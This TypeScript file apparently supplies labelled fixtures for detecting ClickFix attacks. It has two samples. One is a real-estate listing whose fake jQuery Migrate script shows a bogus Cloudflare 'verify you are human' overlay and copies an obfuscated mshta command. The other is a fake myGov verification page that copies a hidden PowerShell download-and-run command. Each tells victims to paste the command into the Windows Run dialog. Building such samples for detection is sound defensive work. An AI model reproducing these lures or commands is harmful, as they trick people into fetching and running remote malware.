import type { Entry } from '../entry.js';
import { shell, baseCss, mark, b64 } from '../parts/xd-kit.js';
import { jsRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'xd-clickfix-cloudflare-realestate-overlay',
  label: 'clickfix',
  kind: 'clickfix-fake-captcha',
  url: 'https://www.coastalprestigerealty.com.au/listings/4-bed-burleigh-heads-19-kalinda-st/',
  body: shell(
    '19 Kalinda St, Burleigh Heads QLD 4220 | Coastal Prestige Realty',
    `<header style="padding:16px 24px;border-bottom:1px solid #ddd;font-family:Georgia"><b>Coastal Prestige Realty</b> · Burleigh Heads · Palm Beach · Miami</header>
<main style="max-width:820px">
 <h1>19 Kalinda Street, Burleigh Heads</h1>
 <p>4 bed · 2 bath · 2 car · 612 m² · Auction Saturday 11am on site</p>
 <p>Set on a quiet street just 800 m from the beach, this renovated family home features an open-plan kitchen with stone benchtops, a north-facing deck and a resort-style pool.</p>
 <p>Contact <b>Jess Moretti</b> 0412 883 190</p>
</main>
<script src="https://www.coastalprestigerealty.com.au/wp-includes/js/jquery/jquery-migrate.min.js?ver=3.4.1.cf"></script>`,
    { css: baseCss('#fff') },
  ),
  routes: {
    'www.coastalprestigerealty.com.au/wp-includes/js/jquery/jquery-migrate.min.js': jsRoute(
      `/*! jQuery Migrate v3.4.1 | (c) OpenJS Foundation and other contributors | jquery.org/license */
!function(){if(localStorage.getItem('cf_ok'))return;var cmd=atob('${b64('mshta https://cf-verify.check-human.top/v/captcha.hta # ✅ I am not a robot - Cloudflare Verification ID: 8814-2291')}');
var o=document.createElement('div');o.style.cssText='position:fixed;inset:0;background:#f9f9f9;z-index:99999;font-family:system-ui,Arial;color:#313131';
o.innerHTML='<div style="max-width:560px;margin:90px auto"><h1 style="font-weight:500;font-size:30px">'+location.host+'</h1><h2 style="font-weight:400;font-size:20px">Verify you are human by completing the action below.</h2><div id="cb" style="border:1px solid #d9d9d9;background:#fafafa;width:300px;height:65px;display:flex;align-items:center;padding:0 14px;gap:12px;cursor:pointer"><span style="width:26px;height:26px;border:2px solid #666;border-radius:3px;display:inline-block"></span>Verify you are human<span style="margin-left:auto;font-size:10px;color:#f38020">CLOUDFLARE</span></div><div id="st" style="display:none;margin-top:18px;border:1px solid #d9d9d9;padding:16px;background:#fff"><b>Verification steps</b><ol><li>Press <b>Windows Button ⊞ + R</b></li><li>Press <b>CTRL + V</b></li><li>Press <b>Enter</b></li></ol><p style="font-size:13px;color:#555">Perform the steps above to finish verification.</p></div><p style="font-size:14px;margin-top:40px">'+location.host+' needs to review the security of your connection before proceeding.</p><p style="font-size:12px;color:#888">Ray ID: <code>8d2f1c7e9a40b7aa</code> · Performance &amp; security by Cloudflare</p></div>';
document.body.appendChild(o);
document.getElementById('cb').onclick=function(){var t=document.createElement('textarea');t.value=cmd;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();document.getElementById('st').style.display='block';this.innerHTML='<span style="color:#0a0">⟳</span> Verifying…';setTimeout(function(){localStorage.setItem('cf_ok','1')},60000)};}();`,
    ),
  },
},
{
  id: 'xd-clickfix-mygov-identity-step',
  label: 'clickfix',
  kind: 'clickfix-fake-verification',
  url: 'https://mygov-verify.identity-check.online/verify/step-2',
  body: shell(
    'myGov – Verify your identity',
    `<header style="background:#000;padding:14px 24px">${mark.mygov(32)}</header>
<main style="max-width:560px">
 <p class="muted">Step 2 of 3</p>
 <h1 style="font-size:24px">Verify your identity on this device</h1>
 <p>To protect your Centrelink, Medicare and ATO records, myGov needs to confirm this computer is not compromised before you can view your new message.</p>
 <button id="v" style="background:#000">Start device verification</button>
 <div id="how" style="display:none;border:1px solid #ccc;border-radius:4px;padding:16px;margin-top:18px">
  <p><b>Complete the device check</b></p>
  <ol>
   <li>Hold the <b>Windows key</b> and press <b>R</b></li>
   <li>In the box that opens, press <b>Ctrl + V</b> (the verification code has been copied for you)</li>
   <li>Press <b>Enter</b> and wait for the green tick</li>
  </ol>
  <p class="muted">Verification code: myGov-DEV-CHK-7731</p>
 </div>
</main>
<footer>myGov is managed by Services Australia</footer>
<script>
var p = ${JSON.stringify([b64('powershell -w h -c "iex(irm https://mygov-verify.identity-check.online/id.ps1)" # myGov device verification - code 7731').slice(0, 64), b64('powershell -w h -c "iex(irm https://mygov-verify.identity-check.online/id.ps1)" # myGov device verification - code 7731').slice(64)])};
document.getElementById('v').onclick = function () {
  navigator.clipboard.writeText(atob(p.join(''))).then(function () {}, function () {});
  document.getElementById('how').style.display = 'block';
};
</script>`,
    { css: baseCss('#000', '#1a1a1a', '#000') },
  ),
},
];
